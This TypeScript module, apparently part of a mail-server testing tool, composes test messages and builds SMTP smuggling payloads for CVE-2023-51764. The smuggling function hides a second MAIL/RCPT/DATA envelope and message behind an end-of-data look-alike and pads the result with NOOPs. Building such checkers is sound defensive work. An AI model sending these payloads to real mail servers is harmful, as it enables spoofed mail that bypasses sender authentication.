// What a technique changes in a message: header fields, lines of text, and the end-of-data look-alike with a second envelope
// behind it (RFC 5321 section 2.3.8, CVE-2023-51764). Pure; the message itself is the canary's.
import type { SessionExtras } from '../model/technique.js';
import { line } from '../smtp/line.js';
import { endOfData } from '../smtp/message.js';

/**
 * Put a technique's header fields and lines of text into a message: fields stand first, in their order, and replace the
 * message's own of the same names; lines end the text. The message has CR LF line ends and a header.
 */
export function composeMessage(message: Buffer, { headers = [], body = [] }: SessionExtras): Buffer {
  if (headers.length === 0 && body.length === 0) return message;
  const text = message.toString('latin1');
  const end = text.indexOf('\r\n\r\n');
  const [header, rest] = end === -1 ? [text.replace(/\r\n$/, ''), ''] : [text.slice(0, end), text.slice(end + 4)];
  const names = new Set(headers.map(({ name }) => name.toLowerCase()));
  // A field goes on in the lines that begin with white space (RFC 5322 section 2.2.3).
  const kept = header.split(/\r\n(?![ \t])/).filter((field) => !names.has(field.split(':', 1)[0]?.toLowerCase() ?? ''));
  const added = headers.map(({ name, value }) => latin1(`${name}: ${value}`));
  const lines = body.map(latin1);
  const ended = rest === '' || rest.endsWith('\r\n') ? rest : `${rest}\r\n`;
  return Buffer.from(
    `${[...added, ...kept].join('\r\n')}\r\n\r\n${ended}${lines.map((one) => `${one}\r\n`).join('')}`,
    'latin1',
  );
}

/** SAFETY: what a technique adds is one line each, so that the message cannot end in the middle. */
const latin1 = (text: string): string => Buffer.from(line(text).wire, 'utf8').toString('latin1');

export interface Smuggling {
  readonly bytes: Buffer;
  /** Evidence of the bytes, a line for each reply that is awaited. */
  readonly shown: string;
  readonly replies: number;
}

/** Replies to the first message, the hidden MAIL, RCPT and DATA, and the second message, where the look-alike is believed. */
const REPLIES = ['message', 'hidden MAIL', 'hidden RCPT', 'hidden DATA', 'hidden message'] as const;

/**
 * Hide an envelope and its message behind a look-alike in another message. NOOPs follow, one for each reply that a server
 * without the fault does not give: the number of replies is the same, and nobody waits for one that never comes.
 */
export function smuggling(
  outer: Buffer,
  lookAlike: string,
  envelope: NonNullable<SessionExtras['smuggled']>,
  inner: Buffer,
): Smuggling {
  const mail = line(`MAIL FROM:<${envelope.reversePath}>`);
  const rcpt = line(`RCPT TO:<${envelope.forwardPath}>`);
  // The text up to the look-alike, without the line end that belongs to it and without the real end of data.
  const before = endOfData(outer).toString('latin1').slice(0, -'\r\n.\r\n'.length);
  const commands = Buffer.from(`${mail.wire}\r\n${rcpt.wire}\r\nDATA\r\n`, 'utf8').toString('latin1');
  const noops = 'NOOP\r\n'.repeat(REPLIES.length - 1);
  const text = `${before}${lookAlike}${commands}${endOfData(inner).toString('latin1')}${noops}`;
  const bytes = Buffer.from(text, 'latin1');
  const shown = [
    `[message of ${bytes.length} octets, an envelope hidden behind ${JSON.stringify(lookAlike)}]`,
    ...REPLIES.slice(1).map((name) => `[${name}, or NOOP]`),
  ].join('\n');
  return { bytes, shown, replies: REPLIES.length };
}
